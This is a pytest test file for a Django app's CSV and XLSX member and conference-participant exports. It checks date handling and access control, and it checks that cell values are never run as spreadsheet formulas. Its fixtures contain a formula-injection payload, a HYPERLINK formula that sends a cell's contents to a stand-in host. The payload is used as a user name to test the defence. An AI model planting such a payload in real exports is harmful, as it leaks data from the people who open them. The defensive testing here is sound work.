"""Exports people ask for: the members of a body on a date, and the conference's participants per
organisation, as CSV and XLSX — each cell a text that never runs as a formula."""
from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from governance.authority import today
from governance.bodies.models import Membership
from governance.networks.models import Conference, ConferenceRegistration
from tests.governance.factories import BodyFactory, MembershipFactory, UserFactory, info_manager, org

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _sheet(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


# --- The members of a body on a date ------------------------------------------------------------
@pytest.fixture
def group():
    """A working group: one member since 2020, one who left on 30 June last year, one who joined this
    year (named as a formula), and its leader."""
    body = BodyFactory(name="Arbetsgrupp arkiv")
    year = today().year
    MembershipFactory(body=body, user=UserFactory(first_name="Anna", last_name="Alm", organisation=org("W")),
                      position=Membership.Position.LEADER)
    MembershipFactory(body=body, user=UserFactory(first_name="Bo", last_name="Berg", organisation=org("AB")),
                      end=dt.date(year - 1, 6, 30))
    MembershipFactory(body=body, user=UserFactory(first_name=FORMULA, last_name="Ceder", organisation=org("C")),
                      start=dt.date(year, 1, 1))
    return body


def _download_links(client, body, day: dt.date | None = None) -> dict[str, str]:
    """The body's page as shown: the date field (today unless `day`) and the download buttons of its
    form, as the browser would request them."""
    page = client.get(body.get_absolute_url() + (f"?on={day.isoformat()}" if day else ""))
    text = html.unescape(page.content.decode())
    value = re.search(r'<input[^>]*name="on"[^>]*>', text).group(0)
    shown = re.search(r'value="([^"]*)"', value).group(1)
    actions = dict((fmt, url) for url, fmt in re.findall(r'formaction="([^"]+\.(csv|xlsx))"', text))
    assert set(actions) == {"csv", "xlsx"}
    return {fmt: f"{url}?on={shown}" for fmt, url in actions.items()} | {"shown": shown}


def test_the_date_field_is_today_and_the_export_is_the_members_of_today(client, group):
    client.force_login(UserFactory())
    links = _download_links(client, group)
    assert links["shown"] == today().isoformat()
    rows = _csv(client.get(links["csv"]))
    assert rows[0] == ["Namn", "Organisation", "Uppdrag", "Från", "Till och med"]
    names = [r[0] for r in rows[1:]]
    assert names == ["Anna Alm", f"'{FORMULA} Ceder"]


def test_the_members_on_a_past_date_in_both_formats_with_their_periods(client, group):
    client.force_login(UserFactory())
    day = dt.date(today().year - 1, 3, 1)
    links = _download_links(client, group, day)
    assert links["shown"] == day.isoformat()
    rows = _csv(client.get(links["csv"]))
    assert rows[1:] == [
        ["Anna Alm", org("W").name, "Ledare", "2020-01-01", ""],
        ["Bo Berg", org("AB").name, "Ledamot", "2020-01-01", f"{today().year - 1}-06-30"],
    ]
    sheet = _sheet(client.get(links["xlsx"]))
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [v[0] for v in values] == ["Anna Alm", "Bo Berg"]
    assert values[1][4].date() == dt.date(today().year - 1, 6, 30)


def test_a_name_that_is_a_formula_stays_text_in_both_formats(client, group):
    client.force_login(UserFactory())
    links = _download_links(client, group)
    rows = _csv(client.get(links["csv"]))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    sheet = _sheet(client.get(links["xlsx"]))
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == f"{FORMULA} Ceder"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_an_unreadable_date_is_sent_back_with_a_message(client, group):
    client.force_login(UserFactory())
    response = client.get(reverse("governance:body_members_export", args=[group.pk, "csv"]) + "?on=31-31-2025",
                          follow=True)
    assert response.redirect_chain[-1][0] == group.get_absolute_url()
    assert "Ange dagen som ÅÅÅÅ-MM-DD." in response.content.decode()


def test_signing_in_is_needed(client, group):
    response = client.get(reverse("governance:body_members_export", args=[group.pk, "csv"]))
    assert response.status_code == 302 and "/konto/" in response.url


# --- The conference's participants per organisation --------------------------------------------
@pytest.fixture
def conference():
    year = today().year + 1
    conference = Conference.objects.create(year=year, title="Kommunikatörskonferensen", date=dt.date(year, 5, 20),
                                           registration_deadline=dt.date(year, 4, 30))
    for code, first in (("W", "Wera"), ("AB", "Astrid"), ("W", FORMULA), ("C", "+46 70 123")):
        person = UserFactory(first_name=first, last_name=f"Deltagare {code}", organisation=org(code))
        ConferenceRegistration.objects.create(conference=conference, participant=person, organisation=org(code))
    return conference


def test_an_information_manager_downloads_the_participants_of_their_organisation(client, conference):
    manager = info_manager("W")
    client.force_login(manager)
    page = client.get(conference.get_absolute_url()).content.decode()
    csv_url = reverse("governance:conference_participants_export", args=[conference.pk, "csv"])
    assert csv_url in page
    rows = _csv(client.get(csv_url))
    assert rows[0] == ["Organisation", "Namn", "E-post", "Anmäld av", "Anmäld"]
    assert {r[0] for r in rows[1:]} == {org("W").name}
    assert [r[1] for r in rows[1:]] == [f"'{FORMULA} Deltagare W", "Wera Deltagare W"]
    sheet = _sheet(client.get(reverse("governance:conference_participants_export", args=[conference.pk, "xlsx"])))
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == f"{FORMULA} Deltagare W"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_an_administrator_downloads_every_organisation_sorted_by_organisation(client, conference):
    admin = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(admin)
    rows = _csv(client.get(reverse("governance:conference_participants_export", args=[conference.pk, "csv"])))
    organisations = [r[0] for r in rows[1:]]
    order = {o.name: (o.sort_order, o.code) for o in (org("W"), org("AB"), org("C"))}
    assert organisations == sorted(organisations, key=order.__getitem__)
    assert len(rows) == 5
    assert "'+46 70 123 Deltagare C" in [r[1] for r in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_someone_who_sees_no_registrations_is_refused(client, conference):
    client.force_login(UserFactory())
    assert reverse("governance:conference_participants_export", args=[conference.pk, "csv"]) not in \
        client.get(conference.get_absolute_url()).content.decode()
    response = client.get(reverse("governance:conference_participants_export", args=[conference.pk, "xlsx"]))
    assert response.status_code == 403
